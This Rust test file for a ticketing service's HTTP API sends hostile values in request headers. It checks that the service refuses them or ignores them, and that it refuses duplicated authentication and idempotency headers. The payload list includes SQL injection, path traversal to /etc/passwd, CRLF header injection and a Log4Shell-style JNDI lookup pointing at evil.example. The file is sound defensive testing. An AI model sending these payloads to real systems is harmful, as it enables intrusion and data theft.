//! Headers that are not what they should be, or there twice.

use super::{MARKER, assert_discreet, assert_refused, start};

/// What somebody may write into any header, to see what comes of it.
const HOSTILE: &[&str] = &[
    "' OR 1=1--",
    "Zq7marker'); DROP TABLE users;--",
    "../../../etc/passwd",
    "%2e%2e%2f",
    "%00",
    "%0d%0aX-Injected: yes",
    "${jndi:ldap://evil.example/Zq7marker}",
    "<script>Zq7marker</script>",
    "{{7*7}}",
    "\"",
    ",;=",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_headers_have_no_effect() {
    let fixture = start().await;
    let before = fixture.cluster.database().census().await;
    let seats = format!("/api/v1/performances/{}/seats", fixture.sale.performance_id);
    for hostile in HOSTILE {
        // Those that decide something refuse it; the others take it for nothing.
        for (header, path, codes) in [
            ("authorization", "/api/v1/users/me", &["unauthenticated"][..]),
            ("queue-token", &seats, &["queue_token_invalid"]),
            ("accept", &seats, &["not_acceptable"]),
        ] {
            let twice = fixture.ada.get(path).header(header, hostile).send().await;
            let client = fixture.cluster.client();
            let once = match header {
                "authorization" => client.get(path).header(header, hostile),
                "queue-token" => client.get(path).bearer(&fixture.ada.access_token).header(header, hostile),
                _ => fixture.ada.get(path).header(header, hostile),
            };
            assert_refused(&once.send().await, codes, hostile);
            assert_refused(&twice, codes, hostile);
        }
        for header in [
            "if-none-match",
            "last-event-id",
            "x-request-id",
            "user-agent",
            "referer",
            "cookie",
            "x-forwarded-for",
            "forwarded",
            "range",
            "te",
            "x-http-method-override",
        ] {
            let answer = fixture.ada.get(&seats).header(header, hostile).send().await;
            assert_eq!(answer.status, 200, "{header}: {hostile}");
            assert_eq!(answer.header("x-injected"), None);
            assert_discreet(&answer.text(), hostile);
            assert!(!answer.header("x-request-id").unwrap().contains(MARKER), "{hostile}");
        }
    }
    assert_eq!(fixture.cluster.database().census().await, before, "nothing is left behind");
    fixture.cluster.end().await;
}

/// A proxy in front and the service must believe the same caller.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn headers_that_decide_are_there_once() {
    let fixture = start().await;
    let bob = fixture.cluster.user().await.enter(&fixture.sale).await;
    let before = fixture.cluster.database().census().await;
    let seats = format!("/api/v1/performances/{}/seats", fixture.sale.performance_id);
    let (adas, bobs) = (fixture.ada.queue_token.as_deref().unwrap(), bob.queue_token.as_deref().unwrap());
    let client = fixture.cluster.client();
    let two_bearers =
        client.get(&seats).bearer(&fixture.ada.access_token).bearer(&bob.access_token).queue_token(adas);
    assert_refused(&two_bearers.send().await, &["unauthenticated"], "two bearers");
    for second in [bobs, adas, ""] {
        let two_tokens = fixture.ada.get(&seats).queue_token(second);
        assert_refused(&two_tokens.send().await, &["queue_token_invalid"], "two queue tokens");
    }
    let charge = fixture.ada.request("POST", "/api/v1/points/charges").json_bytes(r#"{"amount":1}"#);
    assert_refused(&charge.key("a").key("b").send().await, &["idempotency_key_invalid"], "two keys");
    let charge = fixture.ada.request("POST", "/api/v1/points/charges").key("a").json_bytes(r#"{"amount":1}"#);
    let two_types = charge.header("content-type", "application/json");
    assert_refused(&two_types.send().await, &["unsupported_media_type"], "two content types");
    assert_eq!(fixture.cluster.database().census().await, before, "nothing is left behind");
    fixture.cluster.end().await;
}
